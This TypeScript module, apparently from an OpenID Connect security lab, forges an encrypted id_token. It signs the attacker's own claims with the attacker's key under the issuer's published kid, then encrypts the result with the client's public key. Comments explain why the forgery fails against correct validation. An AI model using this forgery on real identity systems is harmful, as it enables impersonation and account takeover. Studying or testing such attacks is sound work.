/**
 * The attacker's encrypted forgery: a nested JWT signed with the attacker's own key and then
 * encrypted to the client with the client's public encryption key, which anyone can have.
 * Encryption hides claims; it proves nothing about who wrote them (OIDC Core §10.2).
 */
import { SignJWT, type JSONWebKeySet } from 'jose';
import {
	ATTACKER_USER,
	clientPublicEncryptionJwk,
	decodeJwt,
	encryptJwt,
	jweHeader,
	SAMPLE_CLIENTS
} from '../../core/index';
import type { TokenSnapshot } from '../types';

/** What the forgery needs from the world: the issuer's published keys and an attacker key pair. */
export interface JweForgeryTools {
	jwks: () => Promise<JSONWebKeySet>;
	keyFor: (alg: string) => Promise<{ privateKey: CryptoKey }>;
}

/**
 * Forges an encrypted id_token to replace `target` (a five-part id_token in a token response).
 * The claims are the attacker's; times and audience come from what the attacker can read in the
 * same response (the access token is a plain JWT). The header names the issuer's published kid,
 * so the key lookup passes; the signature gives it away, and so does the missing nonce, which sat
 * only in the genuine (encrypted, unreadable) id_token. Undefined when there is nothing to replace.
 */
export async function forgeEncryptedIdToken(
	target: TokenSnapshot | undefined,
	tokens: TokenSnapshot[],
	tools: JweForgeryTools
): Promise<string | undefined> {
	if (!target) return undefined;
	const header = jweHeader(target.value);
	if (!header) return undefined;
	const access = decodeJwt(tokens.find((t) => t.name === 'access_token')?.value ?? '').payload;
	const clientId = typeof access?.client_id === 'string' ? access.client_id : undefined;
	const client = SAMPLE_CLIENTS.find((c) => c.client_id === clientId);
	if (!client || !access) return undefined;
	const published = (await tools.jwks()).keys[0];
	if (!published?.kid || !published.alg) return undefined;
	const { privateKey } = await tools.keyFor(published.alg);
	const claims: Record<string, unknown> = {
		iss: access.iss,
		sub: ATTACKER_USER.id,
		aud: client.client_id,
		exp: access.exp,
		iat: access.iat,
		auth_time: access.auth_time,
		email: ATTACKER_USER.profile.email,
		name: ATTACKER_USER.profile.name
	};
	const inner = await new SignJWT(claims)
		.setProtectedHeader({ alg: published.alg, kid: published.kid, typ: 'JWT' })
		.sign(privateKey);
	// The client's public encryption key: registered with the issuer, public like any public key.
	const recipient = await clientPublicEncryptionJwk(client);
	return encryptJwt(inner, recipient, String(header.alg), String(header.enc));
}
